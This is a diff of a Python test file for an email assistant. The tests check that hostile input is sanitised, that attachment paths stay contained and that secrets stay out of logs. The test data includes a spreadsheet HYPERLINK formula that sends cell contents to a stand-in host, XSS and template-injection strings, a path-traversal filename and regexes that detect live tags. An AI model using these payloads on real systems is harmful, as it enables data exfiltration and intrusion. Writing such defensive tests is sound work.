@@ -23,7 +23,7 @@ from mailservers import MailServers
 from openpyxl import load_workbook
 
 NOW = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
-CONTROL = "\x07\x1b[31m\x0b\x08"
+CONTROL = "\x07\x1b[31m\x0b\x08\x1c\x85\u2028"
 LONG = "L" * 20_000
 PAYLOAD = ("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\") <script>alert('x')</script> "
            "<img src=x onerror=alert(1)> {{ 7*7 }} {% raw %} {{ config }} "
@@ -38,6 +38,13 @@ Reason: {PAYLOAD} {LONG}
 Share reason: yes
 Notes: {PAYLOAD}
 """
+
+
+def simple_request(account: str) -> str:
+    """The request with a plain account name and no hostile text elsewhere."""
+    return REQUEST.replace(f"{PAYLOAD} {LONG}", "moving teams").replace(PAYLOAD, account)
+
+
 SECTION_TITLES = ("Contacts", "Sentiment", "Customer fit", "Red flags and issues", "Successes",
                   "Goals", "Current projects", "Contract", "Renewal risk", "Communication",
                   "Significant events", "Documents")
@@ -46,7 +53,7 @@ ANSWERS = "\n\n".join(
     enumerate(SECTION_TITLES, start=1)).replace(
     "## 1. Contacts\n", "## 1. Contacts\n=Pat <b>Lee</b>, {{ 7*7 }}, pat@acme.com, champion - "
     "<script>alert(1)</script>\n")
-C0_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+C0_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029]")
 LIVE_TAG = re.compile(r"<\s*(script|img|iframe|object)\b|<[^>]*\bon(error|mouseover|load)\s*=",
                       re.IGNORECASE)
 
@@ -139,7 +146,7 @@ def test_attachment_names_with_paths_never_escape_the_data_directory(mail, tmp_p
     home = tmp_path / "home"
     assistant = Assistant(home, mail)
     mail.send(plain(sender="Dana Manager <dana@example.com>", to=ADDRESS, subject="Handover",
-                    body=REQUEST.replace(PAYLOAD, "../../../../tmp/escape")),
+                    body=simple_request("../../../../tmp/escape")),
               mail_from="dana@example.com", rcpt_to=[ADDRESS])
     assistant.run_once(now=NOW)
     address = questionnaire_address(mail)
@@ -160,12 +167,12 @@ def test_secrets_never_reach_the_logs_or_anyone_but_their_owner(mail, tmp_path, 
     assistant = Assistant(tmp_path, mail, extra_env={"MAILER_SMTP_PASSWORD": smtp_secret})
     caplog.set_level(logging.DEBUG)
     mail.send(plain(sender="Dana Manager <dana@example.com>", to=ADDRESS, subject="Handover",
-                    body=REQUEST.replace(PAYLOAD, "Acme")),
+                    body=simple_request("Acme")),
               mail_from="dana@example.com", rcpt_to=[ADDRESS])
     assistant.run_once(now=NOW)
     address = questionnaire_address(mail)
     mail.send(plain(sender="Sam <sam@example.com>", to=address, subject="Re: questionnaire",
-                    body=ANSWERS.replace(PAYLOAD, "fine")),
+                    body=ANSWERS.replace(PAYLOAD, "fine").replace(LONG, "")),
               mail_from="sam@example.com", rcpt_to=[address])
     mail.send(plain(sender="Eve <eve@evil.test>", to=address, subject="Re: questionnaire",
                     body="let me in"), mail_from="eve@evil.test", rcpt_to=[address])
@@ -173,7 +180,7 @@ def test_secrets_never_reach_the_logs_or_anyone_but_their_owner(mail, tmp_path, 
 
     # The real service process too, from start to SIGTERM.
     mail.send(plain(sender="Dana Manager <dana@example.com>", to=ADDRESS, subject="Another",
-                    body=REQUEST.replace(PAYLOAD, "Initech")),
+                    body=simple_request("Initech")),
               mail_from="dana@example.com", rcpt_to=[ADDRESS])
     assistant.start()
     try:
